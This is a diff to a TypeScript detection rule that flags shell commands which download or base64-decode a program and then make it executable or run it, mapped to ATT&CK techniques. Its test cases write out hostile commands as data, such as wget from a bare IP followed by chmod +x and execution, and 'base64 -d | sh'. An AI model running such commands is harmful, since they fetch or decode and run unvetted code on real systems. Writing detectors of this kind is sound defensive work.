@@ -5,7 +5,7 @@
 import type { Action } from "../model.js";
 import type { Invocation } from "../shell-command.js";
 import { hostOf, isExternalHost } from "../paths.js";
-import { following, previous, shown, type CommandRule, type RuleHit } from "./rule.js";
+import { following, previous, shown, writtenPaths, type CommandRule, type RuleHit } from "./rule.js";
 
 const TACTIC = "Execution (TA0002)";
 
@@ -103,6 +103,17 @@ const downloadRun: CommandRule = {
       const url = /https?:\/\/[^\s"')`]+/.exec(t)?.[0] ?? "a URL";
       return { action: run(url, inv), reason: `runs code fetched from ${shown(hostOf(url) ?? url)} as soon as it arrives: ingress tool transfer (T1105)` };
     }
+    // echo … | base64 -d > /tmp/x; chmod +x /tmp/x; /tmp/x: a program decoded from text, then run.
+    if ((inv.name === "base64" || inv.name === "xxd" || inv.name === "openssl") && inv.args.some((a) => /^(-d|--decode|-D|-r)$/.test(a))) {
+      const file = writtenPaths(inv)[0];
+      if (!file) return undefined;
+      const base = file.replace(/^.*\//, "");
+      const later = following(all, index);
+      const ran = later.some((n) => n.command.argv[0] === file || n.command.argv[0] === `./${base}` || (INTERPRETERS.test(n.name) && n.args[0] === file));
+      const made = later.some((n) => n.name === "chmod" && n.args.some((a) => /\+x|^[0-7]?[0-7]?[1357][0-7]{0,2}$/.test(a)) && n.args.some((a) => a === file || a.endsWith(`/${base}`)));
+      if (!ran && !made) return undefined;
+      return { action: run("decoded payload", inv), reason: `decodes ${shown(file)} from text and ${ran ? "runs it" : "makes it executable"}: deobfuscate and run (T1140)`, technique: "T1140" };
+    }
     // curl -o /tmp/x URL; chmod +x /tmp/x; /tmp/x
     if (FETCHERS.has(inv.name)) {
       const file = fetchedFile(inv.args);
@@ -125,8 +136,9 @@ const downloadRun: CommandRule = {
       `wget http://198.51.100.3/bot -O /tmp/bot && chmod +x /tmp/bot && /tmp/bot`,
       `echo ZWNobyBoaQ== | base64 -d | sh`,
       `wget http://203.0.113.1/x.elf -qO /dev/shm/x; chmod +x /dev/shm/x; /dev/shm/x`,
+      `echo f0VMRgIBAQ== | base64 -d > /tmp/x && chmod +x /tmp/x && /tmp/x`,
     ],
-    noMatch: [`curl -fsSL https://example.com/install.sh -o install.sh`, `curl https://api.github.com/repos/x/y | jq .`, `bash build.sh`, `wget https://files.example.com/data.csv -O data.csv && head data.csv`],
+    noMatch: [`base64 -d key.b64 > key.bin && chmod 600 key.bin`, `echo aGk= | base64 -d > out.txt && cat out.txt`, `curl -fsSL https://example.com/install.sh -o install.sh`, `curl https://api.github.com/repos/x/y | jq .`, `bash build.sh`, `wget https://files.example.com/data.csv -O data.csv && head data.csv`],
   },
 };
 
